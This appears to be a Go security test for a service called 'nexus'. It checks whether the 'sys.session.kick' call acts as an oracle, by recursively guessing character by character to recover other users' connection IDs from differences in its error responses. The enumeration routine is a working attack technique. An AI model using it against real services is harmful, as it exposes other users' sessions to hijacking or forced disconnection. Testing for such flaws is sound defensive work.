package main

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"time"

	"nexus/pkg/client"
)

// base64url are the characters of API Gateway's connection ids.
const base64url = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_="

// oracle is finding 5: whether a connid begins so, told by sys.session.kick to whom it will not kick. It counts the connids of others that were found
// out, from the node's digits on; and one if the answers tell a prefix that exists from one that does not, however they are come by.
func oracle(ctx context.Context, t *target) (got, error) {
	root, err := t.root(ctx)
	if err != nil {
		return got{}, err
	}
	defer root.Close()
	connids := map[string]bool{}
	for range t.of(10) {
		c, session, err := t.session(ctx, root, nil)
		if err != nil {
			return got{}, err
		}
		defer c.Close()
		connids[session.ConnID] = true
	}
	attacker, own, err := t.session(ctx, root, nil)
	if err != nil {
		return got{}, err
	}
	defer attacker.Close()
	searching, stop := context.WithTimeout(ctx, t.lasting(8*time.Second))
	defer stop()
	found := 0
	// A connid is the node's 8 digits and what API Gateway calls the connection.
	for _, guess := range search(searching, attacker, own.ConnID[:8], own.ConnID) {
		if connids[guess] {
			found++
		}
	}
	// Some may kick themselves: that they may kick nobody else must not tell them of others.
	may, m, err := t.as(ctx, root, nil)
	if err != nil {
		return got{}, err
	}
	defer may.Close()
	if err := root.Call(ctx, "user.setTags", object{"user": m.user, "prefix": m.user, "tags": object{"@sys.session.kick": true}}, nil); err != nil {
		return got{}, err
	}
	if _, err := may.Login(ctx, m.user, m.pass); err != nil {
		return got{}, err
	}
	note := ""
	for connid := range connids {
		for _, c := range []*client.Client{attacker, may} {
			if kick(ctx, c, connid[:18]) != kick(ctx, c, connid[:14]+"____") {
				note = "half a connid is told from one that is none"
			}
		}
	}
	if note != "" {
		found++
	}
	return got{value: float64(found), note: note}, nil
}

// session opens a session of a new user and tells its connid.
func (t *target) session(ctx context.Context, root *client.Client, may tags) (*client.Client, *client.Session, error) {
	m, err := t.make(ctx, root, may)
	if err != nil {
		return nil, nil, err
	}
	c, err := t.dial(ctx, stranger)
	if err != nil {
		return nil, nil, err
	}
	session, err := c.Login(ctx, m.user, m.pass)
	return c, session, err
}

// search follows the prefixes that kick tells apart from those of nobody, to whole connids.
func search(ctx context.Context, c *client.Client, known, own string) (found []string) {
	nobody := kick(ctx, c, known+"~")
	for _, next := range base64url {
		guess := known + string(next)
		if ctx.Err() != nil {
			return found
		}
		switch {
		case guess == own || kick(ctx, c, guess) == nobody:
		case len(guess) == len(own):
			found = append(found, guess)
		default:
			found = append(found, search(ctx, c, guess, own)...)
		}
	}
	return found
}

// kick tries to kick, and says what it was told.
func kick(ctx context.Context, c *client.Client, prefix string) string {
	var result json.RawMessage
	err := c.Call(ctx, "sys.session.kick", object{"connid": prefix}, &result)
	if code(err) == 1 {
		return "nothing"
	}
	return fmt.Sprintf("%d %s", code(err), result)
}

// words is a list for a note.
func words(list []string) string { return strings.Join(list, ", ") }
